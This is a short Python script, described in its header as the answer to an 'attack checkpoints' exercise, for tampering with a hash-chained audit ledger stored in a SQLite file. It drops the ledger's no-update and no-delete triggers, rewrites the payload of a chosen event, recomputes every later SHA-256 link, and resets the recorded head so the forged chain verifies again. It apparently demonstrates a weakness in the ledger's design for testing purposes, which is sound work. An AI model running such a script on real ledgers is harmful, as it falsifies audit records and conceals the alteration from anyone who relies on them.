# The attack checkpoints answer: with the store file in hand, rewrite one event's payload,
# then recompute every hash after it and the recorded head, so the chain verifies again.
#   rechain.py STORE.gpkg SEQ OLD NEW      (SHA-256 stores; the framing of ledger/ledger.c)
import hashlib, sqlite3, sys
path, seq, old, new = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
db = sqlite3.connect(path)
for t in ("ledger_event_no_update", "ledger_event_no_delete"):
    db.execute(f"DROP TRIGGER IF EXISTS {t}")
rows = db.execute("SELECT seq, recorded, effective, actor, type, subject, reason, source_doc, payload, prev_hash FROM ledger_event ORDER BY seq").fetchall()
prev = None
for r in rows:
    s, rec, eff, actor, typ, subj, reason, doc, payload, prev_hash = r
    if s == seq:
        assert old in payload, "the text to replace is not in the event"
        payload = payload.replace(old, new)
    if prev is not None:
        prev_hash = prev
    m = hashlib.sha256()
    for v in (prev_hash, str(s), rec, eff, actor, typ, subj, reason, doc, payload):
        b = v.encode()
        m.update(f"{len(b)}:".encode() + b)
    h = m.hexdigest()
    db.execute("UPDATE ledger_event SET payload = ?, prev_hash = ?, hash = ? WHERE seq = ?", (payload, prev_hash, h, s))
    prev = h
db.execute("UPDATE ls_meta SET value = ? WHERE key = 'ledger_head'", (f"{rows[-1][0]}:{prev}",))
db.commit()
